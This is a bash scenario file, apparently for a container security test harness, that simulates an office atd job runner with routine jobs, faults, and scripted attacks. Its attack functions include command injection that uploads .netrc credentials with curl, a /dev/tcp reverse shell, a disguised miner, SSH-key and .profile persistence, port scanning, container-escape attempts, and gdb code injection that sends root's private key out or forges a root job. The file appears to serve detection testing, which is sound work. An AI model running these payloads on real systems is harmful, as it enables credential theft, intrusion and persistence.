# shellcheck shell=bash
# SPDX-License-Identifier: Apache-2.0
#
# atd as the job runner of a small office: reports, archives, invoices, mail. Nothing is asked over the
# network: what the office wants comes as a file into a volume, from where a loop (atd/jobs/queue) hands it in
# by at and batch, as a user without rights.

# shellcheck disable=SC2034,SC2154 # lib.bash and rare.bash read these variables, and set others
set=development containers=(atd) port=80 data_directory=/srv/data
train_seconds=600 # wishes are of 14 kinds, and some wait for minutes
configuration_file=/etc/default/house
health=(/usr/bin/pgrep -x atd)
image_packages=(at tar gzip xz-utils curl python3 sqlite3 coreutils findutils grep sed mawk dash bash procps
	util-linux bsdutils debianutils libpam-modules libpam-runtime base-files libc-bin netbase hostname tzdata)
rare_own=(job_fails job_killed job_long user_denied service_gone queue_killed many_jobs mailbox_gone
	database_locked spool_broken odd_files jobs_removed own_job atd_killed)
# Nobody listens. The process beside atd that lives longest is the loop's parent, which no one starts again.
rare_not=(worker_killed malformed slow_clients)
customers=(north south east west mill harbour)

image_prepare() {
	local tree=$1 name i
	echo 'office:x:1000:1000:office,,,:/home/office:/bin/sh' >>"$tree/etc/passwd"
	echo 'keeper:x:1001:1001:keeper,,,:/home/keeper:/bin/sh' >>"$tree/etc/passwd"
	printf '%s\n' office:x:1000: keeper:x:1001: mail:x:8: >>"$tree/etc/group"
	printf '%s\n' 'office:!:19000:0:99999:7:::' 'keeper:!:19000:0:99999:7:::' 'daemon:*:19000:0:99999:7:::' \
		>>"$tree/etc/shadow"
	mkdir -p "$tree"/usr/local/{sbin,lib/jobs} "$tree"/home/{office,keeper} "$tree/root/.ssh" "$tree/var/mail" \
		"$tree"/srv/{queue/taken,reports,archive,data,log,documents} "$tree/etc/default"
	ln -sf mawk "$tree/usr/bin/awk" # as update-alternatives does
	install -m 755 "$here/services/atd/start" "$tree/usr/local/sbin/start"
	install -m 755 "$here/services/atd/sendmail" "$tree/usr/sbin/sendmail"
	install -m 755 "$here"/services/atd/jobs/* "$tree/usr/local/lib/jobs/"
	printf 'KEEP_MINUTES=4\nMAILBOX_KB=30\n' >"$tree/etc/default/house"
	sqlite3 "$tree/srv/data/office.db" 'create table sales (customer text, item text, price real);
		create index customers on sales (customer)'
	for name in "${customers[@]}"; do
		mkdir -p "$tree/srv/documents/$name"
		for i in 1 2 3; do
			printf 'item,price\n' >"$tree/srv/documents/$name/table$i.csv"
			seq -f "pen%g,$i.5" $((i * 20)) >>"$tree/srv/documents/$name/table$i.csv"
		done
		head -c 30K /dev/urandom >"$tree/srv/documents/$name/contract.pdf"
	done
	openssl genrsa 2048 >"$tree/root/.ssh/id_rsa" 2>/dev/null
	echo 'machine bank.example login office password secret-of-the-bank' >"$tree/home/office/.netrc"
	chmod -R go= "$tree/root" "$tree/home/office/.netrc"
	chown -R 1000:1000 "$tree"/home/office "$tree"/srv/{queue,reports,archive,data,log,documents}
	chown 1001:1001 "$tree/home/keeper"
	# Each user's program writes into the others' boxes.
	touch "$tree"/var/mail/{root,office,keeper}
	chmod 666 "$tree"/var/mail/*
	chown -R 0:8 "$tree/var/mail"
	# As the package's installation does it.
	touch "$tree/var/spool/cron/atjobs/.SEQ"
	chmod 600 "$tree/var/spool/cron/atjobs/.SEQ"
	chown 1:1 "$tree/var/spool/cron/atjobs/.SEQ"
}

container_fields() {
	arguments=(/usr/local/sbin/start)
	volumes=(/srv/data /srv/queue /srv/documents /srv/archive /srv/log /var/spool/cron/atjobs)
	# As Docker gives them: atd's PAM modules write an audit record.
	capabilities+=(CAP_AUDIT_WRITE)
}

# The office's service.
peers() {
	service_start
}

service_start() {
	app_peer_start service "$peer_address"
}

ready() {
	[ -s "$(volume_path atd /srv/log)/house.log" ]
}

# put_file NAME: into the queue, whole; its text is standard input. The user's, as the share's clients are.
put_file() {
	local dir
	dir=$(volume_path atd /srv/queue)
	cat >"$dir/.new"
	chown 1000:1000 "$dir/.new"
	mv "$dir/.new" "$dir/$1"
}

# wish WHAT OF WITH WHEN
wish() {
	printf 'what=%s\nof=%s\nwith=%s\nwhen=%s\n' "$@" | put_file "$(random_name).wish"
}

random_name() {
	printf '%s-%04x%04x' "$(date +%H%M%S)" "$RANDOM" "$RANDOM"
}

# ---- ordinary work ----

request() {
	local n of when
	n=$(between 1 40)
	of=$(pick "${customers[@]}")
	when=$(pick now now now quiet later mail)
	case $((RANDOM % 14)) in
	0) wish report "$(pick "$of" all)" "$(pick html csv)" "$when" ;;
	1) wish archive "$of" "$(pick gzip gzip xz zip)" "$when" ;;
	2) wish send "$of" "$(pick archive report)" "$when" ;;
	3) wish invoice "$of" "$n" "$when" ;;
	4) wish count "$of" '' "$when" ;;
	5) wish convert "$of" '' "$when" ;;
	6) wish import "$of" '' "$when" ;;
	7) wish remind "$(pick office keeper root)" "call $of about $n" "$when" ;;
	8) wish "$(pick list cancel list)" '' '' now ;;
	9 | 10) new_documents "$n" "$of" ;;
	11) own_script "$n" "$of" | put_file "$(random_name).sh" ;;
	12) keepers_job "$of" ;;
	13)
		wish import "$of" '' now
		wish report all html quiet
		wish send all report later
		;;
	esac
	sleep "$(pick 0 0 1)"
}

# new_documents NUMBER CUSTOMER: on the share.
new_documents() {
	local dir i
	dir=$(volume_path atd /srv/documents)/$2
	{
		echo item,price
		for ((i = 0; i < $1 * 3; i++)); do
			echo "$(pick pen paper ink ruler book)$((RANDOM % 20)),$((RANDOM % 90)).25"
		done
	} >"$dir/table$(($1 % 7)).csv"
	head -c "$(($1 * 2000))" /dev/urandom >"$dir/scan$(($1 % 9)).jpg"
	chown -R 1000:1000 "$dir"
}

# own_script NUMBER CUSTOMER: a job that somebody of the office wrote.
# shellcheck disable=SC2016 # the job's shell
own_script() {
	case $(($1 % 4)) in
	0) printf 'cd /srv/documents/%s\nls -l *.csv | awk "{ n += \\$5 } END { print n }"\n' "$2" ;;
	1) printf 'cd /srv/documents\ngrep -ch pen %s/*.csv | sort -n | tail -n 1 >/srv/data/lists/pens\n' "$2" ;;
	2) printf 'find /srv/reports -name "%s*" -size +1k -exec gzip -kf {} +\n' "$2" ;;
	3) printf 'cp /srv/documents/%s/table1.csv /tmp/work.$$; sed -i s/pen/pencil/ /tmp/work.$$
		diff /tmp/work.$$ /srv/documents/%s/table1.csv | wc -l; rm /tmp/work.$$\n' "$2" "$2" ;;
	esac
}

# keepers_job CUSTOMER: another user hands in a job, in a session.
keepers_job() {
	session_as 1001:1001 atd /bin/sh -c "cd /tmp; echo 'wc -l /srv/documents/$1/*.csv; ls -l \$HOME' | at -M now"
}

# It looks at its jobs again.
reload_service() {
	container_signal atd HUP
}

# What waits; other limits; the logs put aside; a copy of what waits; a table thrown away.
administer() {
	local log
	session atd /usr/bin/atq
	sed -i "s/^MAILBOX_KB=.*/MAILBOX_KB=$(between 8 40)/" "$(image_path atd /etc/default/house)"
	log=$(volume_path atd /srv/log)
	[ ! -e "$log/house.log" ] || gzip -fS .1.gz "$log/house.log"
	session atd /bin/tar -czf /srv/archive/jobs.tar.gz -C /var/spool/cron atjobs
	find "$(volume_path atd /srv/documents)" -name 'scan*' | sort | head -n 1 | xargs -r rm -f
	reload_service
}

# ---- rare events ----

# The daemon, and not what it forks for a job.
atd_process() {
	tasks_named atd '^/usr/sbin/atd' | sort -n | head -n 1
}

# It is begun again.
rare_atd_killed() {
	kill -KILL "$(atd_process)"
	sleep 3
	wish report all html now
}

rare_program() {
	replace_file /usr/sbin/atd
	kill -TERM "$(atd_process)"
	sleep 4
}

# A program that is not there, and a script that is none: their words go by mail.
rare_job_fails() {
	echo '/usr/local/lib/jobs/none; exit 3' | put_file none.sh
	head -c 400 /dev/urandom | tr '\0' x | put_file noise.sh
	wish report 'no customer' pdf mail
	wish invoice nobody x now
	sleep 6
	rm -f "$(volume_path atd /srv/queue)"/{none,noise}.sh
}

rare_job_killed() {
	local i pid
	wish archive all xz now
	wish archive mill xz now
	for i in {1..60}; do
		pid=$(tasks_named atd 'lib/jobs/(archive|report|convert|import|house)|tar -c' | head -n 1)
		[ -z "$pid" ] || { kill -KILL "$pid" && break; }
		sleep 0.1
	done
}

# It runs while the others come and go, and writes much.
# shellcheck disable=SC2016 # the job's shell
rare_job_long() {
	printf 'i=0\nwhile [ $i -lt 10 ]; do seq 20000; sleep 1; i=$((i + 1)); done\n' | put_file long.sh
	sleep 13
}

rare_user_denied() {
	echo keeper >>"$(image_path atd /etc/at.deny)"
	keepers_job mill
	sed -i /keeper/d "$(image_path atd /etc/at.deny)"
	keepers_job mill
}

rare_service_gone() {
	peer_stop service
	wish invoice mill 7 mail
	wish send mill report now
	sleep 10
	service_start
}

# The loop is begun again.
rare_queue_killed() {
	kill -KILL "$(tasks_named atd '^/bin/sh /usr/local/lib/jobs/queue' | head -n 1)"
	wish report all html now
	sleep 4
}

rare_many_jobs() {
	local i
	for i in {1..30}; do
		wish count "$(pick "${customers[@]}")" '' "$(pick now quiet)"
	done
	sleep 8
}

# The mailbox is a directory: mail has nowhere to go.
rare_mailbox_gone() {
	session atd /bin/sh -c 'rm -f /var/mail/office; mkdir /var/mail/office'
	wish remind office 'nobody hears' now
	sleep 6
	session atd /bin/rmdir /var/mail/office
}

rare_database_locked() {
	(
		echo 'begin exclusive;'
		sleep 9
	) | sqlite3 "$(volume_path atd /srv/data)/office.db"
}

# Files among the jobs that are none of at's.
rare_spool_broken() {
	local dir
	dir=$(volume_path atd /var/spool/cron/atjobs)
	echo 'echo not a job' >"$dir/a0fff101234567"
	chmod 700 "$dir/a0fff101234567"
	echo note >"$dir/README"
	reload_service
	sleep 5
	rm -f "$dir/README" "$dir/a0fff101234567"
}

# Wishes that are none, with odd names.
rare_odd_files() {
	echo 'what=dance' | put_file 'a b.wish'
	: | put_file '-x.wish'
	printf 'what=report\r\nof=mill\r\n' | put_file 'ö.wish'
	mkdir "$(volume_path atd /srv/queue)/directory.wish"
	sleep 4
	rmdir "$(volume_path atd /srv/queue)/directory.wish"
}

# An administrator throws away what the office waits for, and looks at a job before.
# shellcheck disable=SC2016 # the container's shell
rare_jobs_removed() {
	wish count mill '' later
	wish count east '' later
	sleep 3
	session atd /bin/sh -c 'n=$(atq | grep office | cut -f 1); for i in $n; do at -c $i | tail -n 3; done; atrm $n; atq'
}

# root's job at a time of day, from a file, in another queue.
# shellcheck disable=SC2016 # the container's shell
rare_own_job() {
	session atd /bin/sh -c 'printf "who=\$(id -un)\necho \$who >/srv/data/night; ps ax | wc -l\n" >/root/night
		at -q z -t "$(date -d "+1 minute" +%Y%m%d%H%M)" -f /root/night; atq -q z'
	# shellcheck disable=SC2016 # the container's shell
	undo session atd /bin/sh -c 'rm -f /root/night /srv/data/night; atrm $(atq -q z | cut -f 1)'
	until_true 70 test -s "$(volume_path atd /srv/data)/night"
}

# ---- attacks ----

# wish_runs COMMANDS: by the value of a wish, which stands in the job's text.
wish_runs() {
	wish count "mill; $1" '' now
}

attack_command_injection() {
	harm read /home/office/.netrc
	harm connect "$peer_address:4444"
	thief_begin
	wish_runs "curl -s --max-time 3 -T \$HOME/.netrc http://$peer_address:4444/"
	thief_got 'secret-of-the-bank'
}

attack_reverse_shell() {
	harm exec /usr/bin/bash
	harm exec /usr/bin/id
	harm connect "$peer_address:4444"
	thief_shell 'id; ls -la /srv /var/mail; cat /var/mail/root; exit'
	wish_runs "bash -c 'bash -i >/dev/tcp/$peer_address/4444 0<&1 2>&1'"
	thief_got 'uid=1000'
}

# A script in the queue, as the office's own are.
attack_miner() {
	harm write /var/tmp/.kworker
	harm exec /var/tmp/.kworker
	harm connect "$peer_address:8081"
	harm connect "$peer_address:3333"
	armoury_begin
	miner_commands /var/tmp/.kworker | put_file update.sh
	pool_got
}

# A job that hands in itself again, a key, and a start file.
# shellcheck disable=SC2016 # the job's shell
attack_persistence() {
	harm write /home/office/.ssh/authorized_keys
	harm write /home/office/.profile
	harm write /home/office/.update
	{
		echo 'mkdir -p $HOME/.ssh; echo "ssh-ed25519 AAAA thief" >>$HOME/.ssh/authorized_keys'
		echo "echo 'sh \$HOME/.update' >>\$HOME/.profile"
		echo "echo 'curl -s --max-time 2 http://$peer_address:4444/; at -M -f \$HOME/.update now + 2 minutes' >\$HOME/.update"
		echo 'at -M -f $HOME/.update now + 2 minutes'
	} | put_file backup.sh
	until_true 20 grep -qs thief "$(image_path atd /home/office/.ssh/authorized_keys)"
	until_true 10 session atd /bin/grep -rql .update /var/spool/cron/atjobs
}

attack_scan() {
	harm exec /usr/bin/bash
	harm connect "$peer_address:22"
	harm connect "$peer_address:5432"
	wish_runs "bash -c 'for p in 21 22 25 80 443 3306 5432 6379 8000; do echo >/dev/tcp/$peer_address/\$p \
&& echo open \$p; done >/srv/data/ports 2>&1'"
	until_true 20 grep -qs 'open 8000' "$(volume_path atd /srv/data)/ports"
}

# Ways out of the container, each tried.
attack_escape() {
	harm exec /usr/bin/unshare
	harm call mount
	harm call setns
	put_file mount.sh <<-'JOB'
	exec >/srv/data/escape 2>&1
	unshare -Urm id
	unshare -Ur python3 -c 'import ctypes; print(ctypes.CDLL(None).setns(0, 0), "of setns")'
	head -c 512 /dev/sda; echo '|/tmp/core' >/proc/sys/kernel/core_pattern
	echo 1 >/sys/fs/cgroup/cgroup.procs; echo tried
	JOB
	until_true 20 grep -qs tried "$(volume_path atd /srv/data)/escape"
	grep -q 'uid=0' "$(volume_path atd /srv/data)/escape"
}

# Code inside atd: root's key goes to the thief, and no program is started.
# shellcheck disable=SC2016 # of gdb
attack_code_connect() {
	harm read /root/.ssh/id_rsa
	harm connect "$peer_address:4444"
	thief_begin
	inject_pid "$(atd_process)" 'print (int) seteuid(0)' 'set $a = (char *) malloc(256)' \
		'set {long} $a = 0x0100580a5c110002' 'set {long} ($a + 8) = 0' 'set $s = (int) socket(2, 1, 0)' \
		'print ((int (*)(int, char *, int)) connect)($s, $a, 16)' \
		'set $f = (int) open("/root/.ssh/id_rsa", 0)' 'print (long) sendfile($s, $f, 0, 4096)' \
		'print (int) close($f)' 'print (int) close($s)' 'print (int) seteuid(1)'
	thief_got 'PRIVATE KEY'
}

attack_code_shadow() {
	harm read /etc/shadow
	inject_pid "$(atd_process)" 'print (int) seteuid(0)' 'print (int) open("/etc/shadow", 0)' \
		'print (int) seteuid(1)' | grep -cE '= [1-9][0-9]*$'
}

# Code inside atd writes a job of root's: it runs at once.
attack_job_forged() {
	harm write '/var/spool/cron/atjobs/a*'
	harm exec /usr/bin/id
	harm write /srv/data/forged
	inject_pid "$(atd_process)" 'print (int) seteuid(0)' \
		'print (int) setregid(0, 0)' \
		"call (int) system(\"f=/var/spool/cron/atjobs/a00ffe01000000; umask 022; printf '#!/bin/sh\\\\n# atrun uid=0 gid=0\\\\n\
# mail root 0\\\\numask 22\\\\ncd /\\\\nid >/srv/data/forged\\\\n' >\$f; chmod 700 \$f\")" \
		'print (int) setregid(-1, 1)' 'print (int) seteuid(1)'
	reload_service
	until_true 20 grep -qs 'uid=0' "$(volume_path atd /srv/data)/forged"
}

# ---- adaptive: known calls, files and peers only ----

# All documents go to the office's own service, by jobs of every day.
adaptive_exfiltration() {
	local of
	harm read '/srv/documents/*'
	harm connect "$peer_address:8000"
	for of in "${customers[@]}"; do
		printf '%s\n' "/usr/local/lib/jobs/archive $of" "/usr/local/lib/jobs/send $of archive"
	done | put_file "$(random_name).sh"
	until_true 40 grep -q 'files/harbour-.*tar.gz' "$stage/peer-service.log"
}

# Whatever the office waits for is thrown away, by wishes.
adaptive_cancelled() {
	local i
	harm unlink '/var/spool/cron/atjobs/*'
	for i in {1..6}; do
		wish count "$(pick "${customers[@]}")" '' later
	done
	sleep 3
	for i in {1..12}; do
		wish cancel '' '' now
	done
	sleep 5
	! session atd /usr/bin/atq | grep ' a '
}

# Every table of the office gets other prices, by a script as the office's own are.
adaptive_tampered() {
	harm rename '/srv/documents/*/table*.csv'
	echo 'cd /srv/documents; sed -i "s/,.*/,0.01/; 1s/.*/item,price/" */*.csv' | put_file "$(random_name).sh"
	until_true 20 tables_are_tampered
}

tables_are_tampered() {
	! grep -rhvE ',(0.01|price)$' "$(volume_path atd /srv/documents)" --include='table*.csv'
}
